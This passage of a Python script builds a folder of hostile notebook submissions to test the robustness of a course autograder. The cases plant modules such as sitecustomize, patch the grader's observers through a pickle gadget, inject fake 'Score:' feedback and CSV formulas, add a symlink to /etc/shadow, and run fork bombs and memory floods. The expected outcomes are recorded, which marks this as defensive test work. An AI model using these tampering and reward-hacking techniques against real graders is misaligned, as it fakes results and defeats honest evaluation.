            "hostpaths",
            "mountinfo and every visible cmdline, leaked via the exception",
            {},
            notebook(EX06, replace={"ex-6-3": HOSTPATHS_63}),
        ),
        (
            "patch_run_cell",
            "untouched + a cell replacing Exercise.run to call the reference",
            {},
            notebook(EX06, add=[(2, PATCH_RUN_CELL)]),
        ),
        (
            "post_run_hook",
            "untouched + post_run_cell hook that rewrites results files",
            {},
            notebook(EX06, add=[(2, POST_RUN_HOOK_CELL)]),
        ),
        (
            "plant_files",
            "untouched + a cell planting sitecustomize/json.py in tmp, home, shm, user site",
            {},
            notebook(EX06, add=[(2, PLANT_FILES_CELL)]),
        ),
        (
            "exit_solved",
            "solved notebook with exit() between cells: should keep its answers",
            FULL06,
            notebook(SOL06, add=[(5, EXIT_CELL)]),
        ),
        (
            "quit_solved",
            "solved notebook with quit() after 6.3: should keep its answers",
            FULL06,
            notebook(SOL06, add=[(11, QUIT_CELL)]),
        ),
        (
            "sigstop_solved",
            "solved notebook whose kernel SIGSTOPs itself: clear row, quickly, answers kept",
            FULL06,
            notebook(SOL06, add=[(5, STOP_CELL)]),
        ),
        (
            "ignore_sigint_solved",
            "solved notebook + a cell ignoring SIGINT in a busy loop (killed), answers kept",
            FULL06,
            notebook(SOL06, add=[(5, IGNORE_INT_CELL)]),
        ),
        (
            "bad_compile_solved",
            "solved notebook + a cell that does not compile",
            FULL06,
            notebook(SOL06, add=[(5, BAD_COMPILE_CELL)]),
        ),
        ("flood", "untouched + 200 MB of stdout", {}, notebook(EX06, add=[(2, FLOOD_CELL)])),
        (
            "inject_feedback",
            "a cell raising text with Score:, headings, html, links, a formula",
            {},
            notebook(EX06, add=[(2, INJECT_CELL)]),
        ),
        (
            "hang_fn",
            "6.3 busy loops forever inside the call (time limit)",
            {},
            notebook(EX06, replace={"ex-6-3": HANG_63}),
        ),
        (
            "forkbomb_fn",
            "6.3 forks 2000 sleeping processes inside the call",
            {},
            notebook(EX06, replace={"ex-6-3": FORKBOMB_63}),
        ),
        (
            "memory_fn",
            "6.3 allocates until the memory limit inside the call",
            {},
            notebook(EX06, replace={"ex-6-3": MEMORY_63}),
        ),
        (
            "big_return",
            "6.3 returns 2 x 200 MB tensors (reply size cap)",
            {},
            notebook(EX06, replace={"ex-6-3": BIG_RETURN_63}),
        ),
        (
            "exit_in_fn",
            "6.3 calls os._exit(0) in the call; 6.1, 6.2 solved honestly must stay",
            {"6.1": 1, "6.2": 2},
            notebook(EX06, replace={"ex-6-3": EXIT_IN_FN_63}, **half),
        ),
        (
            "loadtime_defaults",
            "6.3 shadows `property`, a default that runs code patching Exercise",
            {},
            notebook(EX06, replace={"ex-6-3": LOADTIME_63}),
        ),
    ]
    return subs


def class_06b():
    """Wave 2, lesson 06: tampering in place (written after reading the harness's observer)."""
    half = dict(solved_from=SOL06, solve=("ex-6-1", "ex-6-2"))
    return [
        (
            "w2_silence_ref",
            "6.3: observers' refuse/note swapped (__code__) via pickle gadget, then the checks' reference",
            {"6.1": 1, "6.2": 2},
            notebook(EX06, replace={"ex-6-3": SILENCE_63}, **half),
        ),
        (
            "w2_silence_ref_untouched",
            "same as w2_silence_ref on an untouched notebook otherwise",
            {},
            notebook(EX06, replace={"ex-6-3": SILENCE_LIB_63}),
        ),
        (
            "w2_mock_patch",
            "6.3: observers' refuse/note swapped by unittest.mock.patch.object, then the reference",
            {},
            notebook(EX06, replace={"ex-6-3": MOCK_63}),
        ),
    ]


def with_metadata_lies(nb):
    nb["metadata"]["course_lib"] = {"score": 11, "graded": True}
    for c in nb["cells"]:
        if gid(c) and gid(c).startswith("check"):
            c["source"] = "result = None  # the check removed"
            c["metadata"]["nbgrader"]["points"] = 1000


def class_02():
    return [
        (
            "l02_subprocess_autograd",
            "2.2 by autograd in a fresh python (subprocess)",
            {},
            notebook(EX02, replace={"ex-2-2": SUBPROCESS_22}),
        ),
        (
            "l02_torch_module_autograd",
            "2.2 by autograd.grad from code compiled as a torch module (<module>), run by runpy",
            {},
            notebook(EX02, replace={"ex-2-2": TORCH_MODULE_22}),
        ),
        (
            "l02_autograd_plain",
            "2.2 by loss.backward() (plain borrowed answer)",
            {},
            notebook(EX02, replace={"ex-2-2": AUTOGRAD_22}),
        ),
        (
            "l02_autograd_strings",
            "2.2 by torch.autograd.grad reached by getattr from strings",
            {},
            notebook(EX02, replace={"ex-2-2": ENGINE_STRINGS_22}),
        ),
        ("l02_jacrev", "2.1 by torch.func.jacrev", {}, notebook(EX02, replace={"ex-2-1": JACOBIAN_21})),
        (
            "l02_subprocess_bptt",
            "2.4 by course_lib.bptt.bptt_step in a subprocess",
            {},
            notebook(EX02, replace={"ex-2-4": SUBPROCESS_24}),
        ),
        (
            "l02_metadata_lies",
            "untouched, check cells replaced and points set to 1000, metadata claims a score",
            {},
            notebook(EX02, edit=with_metadata_lies),
        ),
        (
            "l02_silence_autograd",
            "2.2: observers silenced via pickle gadget, then torch.autograd.grad",
            {},
            notebook(EX02, replace={"ex-2-2": SILENCE_22}),
        ),
        (
            "l02_subprocess_server",
            "2.2 by autograd in one fresh python per exercise, reused for every case",
            {},
            notebook(EX02, replace={"ex-2-2": SERVER_22}),
        ),
        ("l02_control_solved", "honest control (lesson 02): the solutions notebook", FULL02, load(SOL02)),
    ]


# names that collide after renaming, reserved, long non-ASCII, injection in names
NAMES = [
    ("o'neil", "name with a quote"),
    ("o_neil", "collides with o'neil after renaming"),
    ("O_NEIL", "collides with o_neil where case is ignored"),
    ("CON", "a Windows-reserved name"),
    ("é" * 100, "200 bytes of non-ASCII"),
    ('=HYPERLINK("http---evil")', "a CSV formula as a name"),
    ("[Score- 11](http---evil)", "markdown link and Score in the name"),
    ("a\nScore: 11", "a newline in the name"),
]


PLANTED = (
    "json",
    "secrets",
    "nbclient",
    "nbformat",
    "sitecustomize",
    "usercustomize",
    "torch",
    "subprocess",
    "tempfile",
)


def main(out: str) -> None:
    out = Path(out)
    meta = []
    for folder, subs, lesson in (("06", class_06(), "06"), ("02", class_02(), "02"), ("06b", class_06b(), "06")):
        (out / folder).mkdir(parents=True, exist_ok=True)
        for name, intent, expected, nb in subs:
            path = out / folder / f"{name}.ipynb"
            path.write_text(json.dumps(nb))
            meta.append(
                {
                    "student": name,
                    "file": str(path.relative_to(out)),
                    "lesson": lesson,
                    "intent": intent,
                    "expected": expected,
                }
            )
    # modules planted in the submissions folders: the grader is run from inside them (`course-lib grade .`)
    for folder in ("06", "02", "names", "06b"):
        (out / folder).mkdir(parents=True, exist_ok=True)
        for module in PLANTED:
            (out / folder / f"{module}.py").write_text(
                f"open('/tmp/hostile33b-cwd-import-{module}', 'w').write('imported from the current folder')\n"
            )
    # names (untouched notebooks: each deserves 0 and one row, one feedback file of its own)
    names = out / "names"
    names.mkdir(exist_ok=True)
    for name, intent in NAMES:
        path = names / f"{name}.ipynb"
        path.write_text(json.dumps(load(EX06)))
        meta.append(
            {
                "student": name,
                "file": str(path.relative_to(out)),
                "lesson": "06",
                "intent": f"name: {intent}",
                "expected": {},
            }
        )
    # a name that is not UTF-8, a link to a secret, a FIFO
    bad = os.fsencode(str(names)) + b"/bad\xff\xfe.ipynb"
    Path(os.fsdecode(bad)).write_text(json.dumps(load(EX06)))
    meta.append(
        {
            "student": "bad\\xff\\xfe",
            "file": "names/<bad bytes>.ipynb",
            "lesson": "06",
            "intent": "name: not UTF-8",
            "expected": {},
        }
    )
    link = names / "link_shadow.ipynb"
    if not link.is_symlink():
        link.symlink_to("/etc/shadow")
    meta.append(
        {
            "student": "link_shadow",
            "file": "names/link_shadow.ipynb",
            "lesson": "06",
            "intent": "a symlink to /etc/shadow named like a notebook: a row saying it is a link, never followed",
            "expected": {},
        }
    )
    # nbgrader layout: a normal student, a student whose notebook is a link, a student with two notebooks
    nbg = out / "nbg" / "submitted"
    for student in ("alice", "linked", "twice"):
        (nbg / student / "ps6").mkdir(parents=True, exist_ok=True)
    (nbg / "alice" / "ps6" / "06_masked_attention.ipynb").write_text(json.dumps(load(SOL06)))
    target = nbg / "linked" / "ps6" / "06_masked_attention.ipynb"
    if not target.is_symlink():
        target.symlink_to(nbg / "alice" / "ps6" / "06_masked_attention.ipynb")
    (nbg / "twice" / "ps6" / "a.ipynb").write_text(json.dumps(load(SOL06)))
    (nbg / "twice" / "ps6" / "b.ipynb").write_text(json.dumps(load(EX06)))
    meta += [
        {
            "student": "alice",
            "file": "nbg/...",
            "lesson": "06",
            "intent": "nbgrader layout, solved",
            "expected": FULL06,
        },
        {
            "student": "linked",
            "file": "nbg/...",
            "lesson": "06",
            "intent": "nbgrader layout, notebook is a link to alice's: a row, not graded",
            "expected": {},
        },
        {
            "student": "twice",
            "file": "nbg/...",
            "lesson": "06",
            "intent": "nbgrader layout, two notebooks: one row saying why",
            "expected": {},
        },
    ]
    (out / "class.json").write_text(json.dumps(meta, indent=1))
    print(f"{len(meta)} submissions in {out}")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "/tmp/hostile33b-class")
